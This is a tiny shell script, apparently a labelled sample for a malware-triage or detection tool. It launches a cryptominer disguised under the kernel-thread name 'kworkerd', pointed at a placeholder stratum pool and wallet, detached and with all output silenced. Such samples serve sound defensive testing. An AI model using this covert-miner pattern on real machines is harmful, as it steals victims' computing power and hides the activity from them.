#!/bin/sh
# triage-expect: triage_miner_config
./kworkerd -o stratum+tcp://pool.example.invalid:3333 -u WALLETPLACEHOLDER -p x -B >/dev/null 2>&1
